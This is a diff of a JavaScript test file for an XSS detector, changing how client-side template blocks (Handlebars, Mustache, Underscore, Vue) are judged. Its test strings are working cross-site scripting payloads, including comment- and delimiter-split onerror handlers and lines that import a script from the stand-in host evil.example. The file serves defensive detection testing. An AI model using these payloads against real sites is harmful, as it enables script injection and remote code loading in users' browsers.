@@ -863,41 +863,21 @@ t.test("(sixty-second round, after its measurement, tuned on the spent hundred-a
   }
 })
 
-t.test("(sixty-third round, the spent hundred-and-fifty-third part) a logic-less template's block is no script; its content is read as markup", async (t) => {
-  // Handlebars' and Mustache's template blocks: data no browser runs, their markup read as any markup's
+t.test("(sixty-third round, tried and taken back) a client-side template's block stays read: injected before a page's own, it is the one the engine renders", async (t) => {
+  // the reviews' payloads, each run in Chromium by the engine's own code (Underscore, Vue 2, Handlebars 3 and 4, Mustache, Hogan, Ractive)
+  // rendering the block a page looks up by id: a block's tags taken off, its content hid the handler from the markup's reading
   for (const v of [
-    '<script type="text/x-handlebars-template" id="template-room-tab">\n    <li class="lcb-tab" data-id="{{id}}">\n        <a href="#!/room/{{id}}">{{name}}</a>\n    </li>\n</script>',
-    '<script\n            type="text/x-handlebars-template"\n            id="row"\n        >\n            <div class="my-2">{{#if label}}{{ label }}{{/if}}</div>\n        </script>',
-    '<script id="item" type=\'text/x-mustache\'><li>{{ title }}</li></script>',
-  ]) {
-    t.same(q(v), [], v.slice(0, 60))
-    t.same(json({ v }), [], `${v.slice(0, 60)} (JSON)`)
-  }
-  // a handler or a script inside, a script after it, a source, another attribute or type, a script compiled and run, a block not closed
-  // as written, the type inside another tag's attribute: read as before
-  for (const v of [
-    '<script type="text/x-handlebars-template" id="a"><img src=x onerror=alert(1)></script>',
-    '<script type="text/x-handlebars-template" id="a"></script><script>alert(1)</script>',
-    '<script type="text/x-handlebars-template">alert(1)</script><script>alert(2)',
-    '<script type="text/x-handlebars-template" id="a" src="//evil.example/x.js"></script>',
-    '<script type="text/x-handlebars-template" type="text/javascript">alert(1)</script>',
-    '<script type="text/x-handlebars-template" onload="alert(1)"></script>',
-    '<script type="text/babel">alert(1)</script>',
-    '<script type=text/jsx>{alert(1)}</script>',
-    '<script type="module">alert(1)</script>',
-    '<script type="text/x-handlebars-template" id="a">x</script ><script>alert(1)</script>',
-    '<div title="<script type=\'text/x-handlebars-template\'>"></div><script>alert(1)</script>',
-    // (review) the engines that run what a block holds, a page looking its template up by id finding an injected block first (each ran in
-    // Chromium with Underscore's and Vue's own code): Underscore's `<% %>`, Vue's bindings, Kendo's `#= #`, AngularJS's block, and another
-    // engine's code delimiters inside a Handlebars block
     '<script type="text/template" id="t"><% window.ran=1 %></script>',
     '<script type="text/x-template" id="t"><img src="x" v-on:error="window.ran=1"></script>',
     '<script type="text/x-template" id="t"><img src="x" @error="import(\'//evil.example/x.js\')"></script>',
-    '<script type="text/x-kendo-template" id="t">#= import(\'//evil.example/x.js\') #</script>',
-    '<script type="text/ng-template" id="t.html"><img src=x ng-on-error="$event.view.location=name"></script>',
-    '<script type="text/x-handlebars-template" id="t"><% window.ran=1 %></script>',
-    '<script type="text/x-handlebars-template" id="t">${ran=1}</script>',
-  ]) t.ok(q(v).includes('xss'), v)
+    '<script type="text/x-handlebars-template" id="t"><img src=x {{!x}}onerror="window.ran=1"></script>',
+    '<script type="text/x-mustache" id="t"><img src=x o{{!x}}nerror="window.ran=1"></script>',
+    '<script type="text/x-handlebars-template" id="t"><img src=x{{#if 1}} {{/if}}onerror="window.ran=1"></script>',
+    '<script type="text/x-mustache" id="t">{{=[ ]=}}<img src=x o[!x]nerror="window.ran=1"></script>',
+  ]) {
+    t.ok(q(v).includes('xss'), v)
+    t.ok(json({ v }).includes('xss'), `${v} (JSON)`)
+  }
 })
 
 t.test('warmUp: a detector led through its readings once answers as a fresh one', async (t) => {
